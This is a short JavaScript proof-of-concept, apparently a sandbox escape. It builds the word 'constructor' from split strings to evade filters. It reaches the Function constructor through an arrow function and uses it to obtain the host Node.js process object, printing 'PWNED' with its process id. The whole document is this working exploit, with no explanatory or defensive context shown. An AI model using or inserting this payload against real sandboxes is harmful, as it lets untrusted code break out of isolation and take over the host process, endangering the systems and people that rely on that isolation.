const w = ['con', 'structor'].join('');
const t = { go: (f) => f[w] };
t.go({});
const fn = (x) => x;
const f = (...o) => o[0].go(fn);
console.log('PWNED', f(t)('return process')().pid);
